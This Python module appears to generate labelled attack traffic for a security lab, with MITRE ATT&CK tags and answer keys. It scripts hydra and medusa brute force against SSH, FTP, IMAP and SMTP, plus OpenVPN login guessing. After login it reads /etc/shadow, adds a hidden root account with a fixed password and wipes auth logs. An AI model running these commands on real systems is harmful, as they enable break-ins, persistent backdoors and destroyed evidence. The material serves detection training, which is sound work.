"""Attacks on log-ins: SSH guessed, entered, made administrator of, its log cleared; mailboxes sprayed; FTP and VPN guessed;
SSH guessed from many addresses; mail users enumerated."""

import subprocess
import time

import lab
import names
from campaign import NAMES, Step, wordlist
from office import Mailbox
from office import MAIL

FILES = "203.0.113.13"
OPTIONS = (
    "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 -o ConnectTimeout=8 "
    "-o LogLevel=ERROR"
)


def guess_ssh(stage, step):
    """Guessing that finds the password near the end of the list."""
    user, _, word = stage.world.keeper
    path = stage.file(step.name + ".txt", wordlist(step.rng, step.count, word))
    command = (
        f"hydra -I -f -t 4 -w 2 -l {user} -P {path} {FILES} ssh"
        if step.answer["tool"] == "hydra"
        else f"medusa -h {FILES} -u {user} -P {path} -M ssh -f -t 4"
    )
    stage.tool(step.space, command, step.seconds - 0.5, step.name)


def remote(stage, step, user, word, command, seconds=10):
    """A command on the file server, by SSH with a password."""
    stage.tool(
        step.space, f"sshpass -p '{word}' ssh {OPTIONS} {user}@{FILES} \"{command}\"", seconds, step.name
    )


def enter(stage, step):
    """Log-in with the found password, root through sudo, an account made, logs cleared."""
    user, _, word = stage.world.keeper
    for command in (
        "id; uname -a; sudo -n -l",
        "sudo cat /etc/shadow",
        "sudo useradd -o -u 0 -g 0 -M -s /bin/bash hotro",
        "echo hotro:Ht@2026 | sudo chpasswd",
        (
            "sudo truncate -s 0 /var/log/auth.log; sudo rm -f /var/log/wtmp; "
            "sudo sh -c 'echo > /var/log/lastlog'; unset HISTFILE"
        ),
    ):
        remote(stage, step, user, word, command)
        stage.clock.wait(stage.clock.now() + step.rng.uniform(15, 60))


def spray_mail(stage, step):
    """One password at every mailbox; one opens."""
    people = [p[0] for p in stage.world.officials] + [stage.world.mail_weak[0]]
    step.rng.shuffle(people)
    path = stage.file(step.name + ".txt", people)
    tool = f"hydra -I -t 3 -L {path} -p '{stage.world.mail_weak[2]}' {MAIL} imap"
    stage.tool(step.space, tool, step.seconds - 0.5, step.name)


def open_mailbox(stage, step):
    user, _, word = stage.world.mail_weak
    for _ in range(3):
        stage.tool(
            step.space,
            f"curl -s -m 8 -u '{user}:{word}' 'imap://{MAIL}/INBOX;MAILINDEX=1' -X 'SEARCH ALL'",
            9,
            step.name,
        )
        stage.clock.wait(stage.clock.now() + step.rng.uniform(30, 90))


def guess_ftp(stage, step):
    users = stage.file(step.name + ".users", step.rng.sample(NAMES, 4) + [stage.world.webmasters[2][0]])
    words = stage.file(step.name + ".txt", wordlist(step.rng, 40))
    command = (
        f"hydra -I -t 4 -L {users} -P {words} {FILES} ftp"
        if step.answer["tool"] == "hydra"
        else f"medusa -h {FILES} -U {users} -P {words} -M ftp -t 4"
    )
    stage.tool(step.space, command, step.seconds - 0.5, step.name)


def guess_vpn(stage, step):
    """The VPN's log-in guessed, one client after the other."""
    for n in range(9):
        user = step.rng.choice(stage.world.officials)[0]
        login = stage.file(f"{step.name}.{n}", [user, step.rng.choice(wordlist(step.rng, 50))])
        stage.tool(step.space, vpn_command(stage, login), 3.2, step.name)


def vpn_command(stage, login):
    return (
        f"openvpn --client --dev null --proto udp --remote 203.0.113.14 1194 --nobind --auth-user-pass {login} --ca "
        f"{stage.place.folder}/tls.crt --auth-retry none --connect-retry-max 1 --connect-timeout 3 --verb 1"
    )


def guess_from_many(stage, step):
    """A few tries from each of many addresses, over hours."""
    per = step.length / len(step.addresses)
    first = stage.clock.now()
    for n, source in enumerate(step.addresses):
        stage.clock.wait(first + per * n)
        for _ in range(2):
            user = step.rng.choice((step.user, step.user, "root", "quantri"))
            word = step.rng.choice(wordlist(step.rng, 90))
            stage.tool("net", f"sshpass -p '{word}' ssh -b {source} {OPTIONS} {user}@203.0.113.10 id", 8, step.name)


def mail_users(stage, step):
    path = stage.file(step.name + ".txt", NAMES + [p[0] for p in stage.world.officials[:6]])
    stage.tool(
        step.space,
        f"hydra -I -t 1 -w 1 -L {path} -p {names.DOMAIN} {MAIL} smtp-enum rcpt",
        step.seconds - 0.5,
        step.name,
    )


def steps(rng, sources, outsiders, world):
    made = []

    def add(name, space, day, seconds, rate, act, technique, tool, target, what, chain=None, **more):
        source = outsiders.get(space) or outsiders.setdefault(space, sources.take())
        step = Step(
            name,
            day,
            seconds,
            rate,
            act,
            {"chain": chain, "source": source, "target": target, "technique": technique, "tool": tool, "what": what},
        )
        if "accounts" in more:
            step.answer["accounts"] = more.pop("accounts")
        step.space, step.rng = space, rng
        for key, value in more.items():
            setattr(step, key, value)
        made.append(step)
        return step

    hour = lambda low, high: rng.uniform(low, high) * 3600
    either = lambda: rng.choice(("hydra", "medusa"))
    begin = hour(0.5, 20)
    add(
        "guess-ssh",
        "ssh1",
        begin,
        24,
        rng.uniform(8, 14),
        guess_ssh,
        ["T1110.001"],
        "hydra",
        "file-01",
        "SSH password guessed and found",
        "ssh",
        count=rng.randrange(110, 170),
    )
    add(
        "enter-ssh",
        "ssh1",
        begin + 24 * 14 + 120,
        12,
        25,
        enter,
        ["T1078", "T1548.003", "T1136.001", "T1070.002"],
        "ssh",
        "file-01",
        "log-in, root through sudo, account made, logs cleared",
        "ssh",
        accounts=["kho", "hotro"],
    )
    begin = hour(1, 21)
    add(
        "spray-mail",
        "mail1",
        begin,
        16,
        rng.uniform(8, 15),
        spray_mail,
        ["T1110.003"],
        "hydra",
        "mail-01",
        "one password tried at every mailbox",
        "mail",
    )
    add(
        "open-mailbox",
        "mail1",
        begin + 16 * 15 + 100,
        6,
        30,
        open_mailbox,
        ["T1078", "T1114.002"],
        "curl",
        "mail-01",
        "the mailbox whose password fitted is read",
        "mail",
    )
    add(
        "guess-ftp",
        "ftp1",
        hour(1, 22),
        15,
        rng.uniform(6, 12),
        guess_ftp,
        ["T1110.001"],
        either(),
        "file-01",
        "FTP passwords guessed",
    )
    add(
        "guess-vpn",
        "vpn1",
        hour(1, 22),
        31,
        rng.uniform(8, 15),
        guess_vpn,
        ["T1110.003", "T1133"],
        "openvpn",
        "gw-01",
        "VPN log-ins guessed",
    )
    add(
        "mail-users",
        "mail2",
        hour(1, 22),
        7,
        6,
        mail_users,
        ["T1087.003", "T1589.002"],
        "hydra",
        "mail-01",
        "names of mail users tried",
    )
    many = add(
        "guess-many",
        "net",
        hour(1, 16),
        0,
        0,
        guess_from_many,
        ["T1110.001"],
        "ssh",
        "web-01",
        "SSH guessed from many addresses",
        addresses=[sources.take() for _ in range(24)],
        length=hour(0.7, 1.2),
        user=world.admins[1][0],
        accounts=[world.admins[1][0], "root"],
    )
    many.answer["source"], many.answer["sources"] = None, many.addresses
    outsiders.pop("net", None)
    return made
